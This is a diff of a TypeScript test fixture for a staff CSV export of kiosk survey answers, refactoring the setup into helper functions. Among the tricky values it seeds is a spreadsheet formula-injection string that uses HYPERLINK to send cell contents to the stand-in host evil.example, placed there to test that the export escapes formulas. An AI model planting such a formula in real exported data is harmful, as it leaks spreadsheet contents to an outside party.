@@ -3,11 +3,8 @@
 // survive (a formula comment, quotes and a line break, contact details, a possible repeat, days
 // that differ between local time and UTC). staff-export.test.ts reads them back.
 import { beforeAll } from 'vitest';
-import { attachConfig } from '../../server/kiosk-api/kiosk-configs.ts';
-import { updateLocation } from '../../server/locations/store.ts';
-import { smallConfig } from './config.ts';
-import { answerPoster } from './kiosk-answers.ts';
-import { LOCATIONS, type StaffCollector } from './staff.ts';
+import { answerPoster, storeIds, twoZonesWithSurvey } from './kiosk-answers.ts';
+import type { StaffCollector } from './staff.ts';
 
 export const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
 export const AWKWARD = 'She said "hi", then\r\nleft, happy';
@@ -26,15 +23,7 @@ export function useExportFixture(c: StaffCollector) {
   const place = { main: 0, outlet: 0, outletDoor: 0 };
 
   beforeAll(async () => {
-    await updateLocation(c.storage, LOCATIONS.main.location, { timeZone: 'Europe/Berlin' });
-    await updateLocation(c.storage, LOCATIONS.outlet.location, { timeZone: 'America/New_York' });
-    for (const k of Object.values(LOCATIONS))
-      await attachConfig(
-        c.storage,
-        k.kioskId,
-        { ...smallConfig(), kioskId: k.kioskId },
-        new Date(),
-      );
+    await twoZonesWithSurvey(c);
     await post('main', [
       // 09:15 in Berlin (UTC+1 in November).
       [
@@ -71,16 +60,7 @@ export function useExportFixture(c: StaffCollector) {
       // 22:00 on 2 November in New York, 3 November in UTC: inside.
       ['evening', { finalizedAt: '2026-11-03T03:00:00.000Z', reasons: ['friendly'] }],
     ]);
-    const locations = await c.storage.db.selectFrom('locations').select(['id', 'name']).execute();
-    place.main = locations.find((l) => l.name === LOCATIONS.main.location)!.id;
-    place.outlet = locations.find((l) => l.name === LOCATIONS.outlet.location)!.id;
-    place.outletDoor = (
-      await c.storage.db
-        .selectFrom('touchpoints')
-        .select('id')
-        .where('location_id', '=', place.outlet)
-        .executeTakeFirstOrThrow()
-    ).id;
+    Object.assign(place, await storeIds(c));
   });
   return { ids, place };
 }
